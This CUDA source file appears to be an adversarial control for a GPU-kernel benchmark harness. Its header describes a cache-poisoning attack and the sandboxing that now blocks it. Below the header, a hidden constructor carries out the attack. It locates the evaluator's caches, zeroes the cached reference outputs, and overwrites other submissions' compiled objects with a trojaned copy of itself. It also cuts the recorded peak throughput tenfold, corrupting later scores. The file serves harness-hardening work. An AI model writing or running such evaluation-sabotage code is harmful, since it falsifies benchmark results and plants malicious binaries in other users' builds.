/*
Adversarial control: cache_poison   (issue class 9: poisoning the shared caches for the next
evaluation)

Attack. The reference cache (<root>/reference/<sha256>/seed<seed>_C.f32 + meta.json), the
build cache (<root>/build/<key>/candidate.so + build.json) and the peak cache
(<root>/peak/<gpu uuid>.json) are plain files under the evaluator's cache root ($PTXBENCH_CACHE,
$XDG_CACHE_HOME/ptxbench, ~/.cache/ptxbench or --cache-dir, read from the parent's command
line), read back with no integrity check. In the timing child (its spec says "role":
"timing"; by then our own trials have been compared, so poisoning cannot hurt our verdict)
a constructor:
  - overwrites every cached expected output (*.f32) with zeros: the next honest kernel on
    any cached workload and seed is compared against zeros -> INCORRECT;
  - replaces every other entry's candidate.so with a copy of this object (the path is in our
    spec, "shared_object") in which the marker "ADV-POISON-MODE:HOME" is patched to
    "ADV-POISON-MODE:EVIL": any source whose build is cached then runs our run(), which in
    that mode writes 1.0 everywhere (our own entry is left alone: the profiled call loads it later);
  - divides the cached bf16 peak by 10 (every later percent_of_peak x10).
Written as new files renamed into place, so processes that have an object mapped keep it.
The GEMM itself is honest (CUDA cores) when the marker says HOME.

Old harness: PASSED; the next honest kernel on the same workload was INCORRECT (poisoned
reference) or ran our code (poisoned build).
Now: caches are written only by the parent and verified (sha256) on every read, and Landlock
lets the candidate's process read neither the caches nor anything outside its own folder:
every open fails, nothing changes -> PASSED, then the honest kernel PASSED.
*/
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

// Patched in the copies planted in other build entries.
__attribute__((used)) const volatile char kMode[] = "ADV-POISON-MODE:HOME";

__global__ void write_ones(__nv_bfloat16* C, size_t n) {
  for (size_t i = blockIdx.x * (size_t)blockDim.x + threadIdx.x; i < n;
       i += (size_t)gridDim.x * blockDim.x)
    C[i] = __float2bfloat16_rn(1.0f);
}

// ---- a plain CUDA-core GEMM: 64x64 tiles, 16-deep K steps, 256 threads, 4x4 outputs each ----
__global__ void __launch_bounds__(256)
    cc_gemm(const __nv_bfloat16* __restrict__ A, const __nv_bfloat16* __restrict__ B,
            __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ float As[16][65], Bs[16][65];  // [k][row], padded
  const int tx = threadIdx.x & 15, ty = threadIdx.x >> 4;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4] = {};
  for (int k0 = 0; k0 < K; k0 += 16) {
    for (int i = threadIdx.x; i < 64 * 16; i += 256) {
      const int r = i >> 4, k = i & 15, gk = k0 + k;
      As[k][r] = (m0 + r < M && gk < K) ? __bfloat162float(A[(size_t)(m0 + r) * K + gk]) : 0.f;
      Bs[k][r] = (n0 + r < N && gk < K) ? __bfloat162float(B[(size_t)(n0 + r) * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll
    for (int k = 0; k < 16; ++k)
#pragma unroll
      for (int i = 0; i < 4; ++i)
#pragma unroll
        for (int j = 0; j < 4; ++j)
          acc[i][j] = fmaf(As[k][ty + 16 * i], Bs[k][tx + 16 * j], acc[i][j]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int m = m0 + ty + 16 * i;
    if (m >= M) continue;
    for (int j = 0; j < 4; ++j) {
      const int n = n0 + tx + 16 * j;
      if (n < N) C[(size_t)m * N + n] = __float2bfloat16_rn(acc[i][j]);
    }
  }
}

int launch_cc_gemm(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  const dim3 grid((unsigned)((N + 63) / 64), (unsigned)((M + 63) / 64));
  if (grid.y > 65535u) return 20;
  cc_gemm<<<grid, 256, 0, stream>>>(A, B, C, M, N, K);
  return cudaGetLastError() == cudaSuccess ? 0 : 21;
}

std::string slurp(const std::string& path, size_t max = size_t(1) << 28) {
  std::string s;
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return s;
  char buf[65536];
  ssize_t n;
  while (s.size() < max && (n = read(fd, buf, sizeof buf)) > 0) s.append(buf, (size_t)n);
  close(fd);
  return s;
}

std::vector<std::string> split0(const std::string& s) {
  std::vector<std::string> out;
  for (size_t p = 0; p < s.size();) {
    size_t e = s.find('\0', p);
    if (e == std::string::npos) e = s.size();
    out.push_back(s.substr(p, e - p));
    p = e + 1;
  }
  return out;
}

// The child's spec: the argument after "__child" on our command line.
std::string spec_text() {
  std::vector<std::string> args = split0(slurp("/proc/self/cmdline"));
  for (size_t i = 0; i + 1 < args.size(); ++i)
    if (args[i] == "__child") return slurp(args[i + 1]);
  return "";
}

// Position of the value of "key" in a JSON text, or npos.
size_t json_value(const std::string& js, const char* key) {
  const std::string k = std::string("\"") + key + "\"";
  size_t p = js.find(k);
  if (p == std::string::npos || (p = js.find(':', p + k.size())) == std::string::npos)
    return std::string::npos;
  return js.find_first_not_of(" \t\r\n", p + 1);
}

std::string json_string(const std::string& js, const char* key) {
  size_t p = json_value(js, key);
  if (p == std::string::npos || js[p] != '"') return "";
  return js.substr(p + 1, js.find('"', p + 1) - p - 1);
}

// Where CacheRoot() puts the caches, and the evaluator's --cache-dir if it was given one.
std::vector<std::string> cache_roots() {
  std::vector<std::string> r;
  if (const char* c = getenv("PTXBENCH_CACHE"); c && *c) r.push_back(c);
  if (const char* x = getenv("XDG_CACHE_HOME"); x && *x) r.push_back(std::string(x) + "/ptxbench");
  if (const char* h = getenv("HOME"); h && *h) r.push_back(std::string(h) + "/.cache/ptxbench");
  r.push_back("/root/.cache/ptxbench");
  r.push_back("/tmp/ptxbench-cache");
  std::vector<std::string> parent =
      split0(slurp("/proc/" + std::to_string(getppid()) + "/cmdline"));
  for (size_t i = 0; i < parent.size(); ++i) {
    if (parent[i] == "--cache-dir" && i + 1 < parent.size()) r.insert(r.begin(), parent[i + 1]);
    if (parent[i].rfind("--cache-dir=", 0) == 0) r.insert(r.begin(), parent[i].substr(12));
  }
  return r;
}

std::vector<std::string> subdirs(const std::string& dir) {
  std::vector<std::string> out;
  if (DIR* d = opendir(dir.c_str())) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] != '.') out.push_back(dir + "/" + e->d_name);
    closedir(d);
  }
  return out;
}

bool ends_with(const std::string& s, const char* tail) {
  const size_t n = strlen(tail);
  return s.size() >= n && s.compare(s.size() - n, n, tail) == 0;
}

// Writes `bytes` to a new file next to `path`, then renames it over `path`.
bool replace_file(const std::string& path, const std::string& bytes) {
  const std::string tmp = path + ".adv." + std::to_string(getpid());
  int fd = open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  bool ok = write(fd, bytes.data(), bytes.size()) == (ssize_t)bytes.size();
  close(fd);
  if (ok && rename(tmp.c_str(), path.c_str()) == 0) return true;
  unlink(tmp.c_str());
  return false;
}

__attribute__((constructor)) void poison_caches() {
  const std::string spec = spec_text();
  if (json_string(spec, "role") != "timing") return;
  const std::string own_so = json_string(spec, "shared_object");
  const std::string own_entry = own_so.substr(0, own_so.rfind('/'));
  std::string evil = slurp(own_so), marker;
  for (size_t i = 0; i + 1 < sizeof kMode; ++i) marker += kMode[i];  // no second copy of it
  const size_t mark = marker.compare(16, 4, "HOME") == 0 ? evil.find(marker) : std::string::npos;
  if (mark != std::string::npos) evil.replace(mark + 16, 4, "EVIL");
  int refs = 0, builds = 0, peaks = 0;
  for (const std::string& root : cache_roots()) {
    for (const std::string& entry : subdirs(root + "/reference"))
      for (const std::string& file : subdirs(entry))
        if (ends_with(file, ".f32")) {
          const std::string data = slurp(file);
          refs += !data.empty() && replace_file(file, std::string(data.size(), '\0'));
        }
    if (mark != std::string::npos)
      for (const std::string& entry : subdirs(root + "/build"))
        if (entry != own_entry && !slurp(entry + "/candidate.so", 64).empty())
          builds += replace_file(entry + "/candidate.so", evil);
    for (const std::string& file : subdirs(root + "/peak")) {
      std::string j = slurp(file, 1 << 16);
      size_t p = json_value(j, "flops_per_second");
      if (p == std::string::npos) continue;
      size_t e = j.find_first_of(",\n}", p);
      char v[64];
      snprintf(v, sizeof v, "%.6g", strtod(j.c_str() + p, nullptr) / 10);
      peaks += replace_file(file, j.substr(0, p) + v + j.substr(e));
    }
  }
  if (refs + builds + peaks > 0)
    fprintf(stderr, "cache_poison: %d reference files, %d builds, %d peaks\n", refs, builds, peaks);
}

}  // namespace

extern "C" int run(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  if (M <= 0 || N <= 0 || K <= 0) return 1;
  if (kMode[16] == 'E') {  // planted in somebody else's build entry
    write_ones<<<264, 256, 0, stream>>>(C, (size_t)M * N);
    return cudaGetLastError() == cudaSuccess ? 0 : 2;
  }
  return launch_cc_gemm(A, B, C, M, N, K, stream);
}
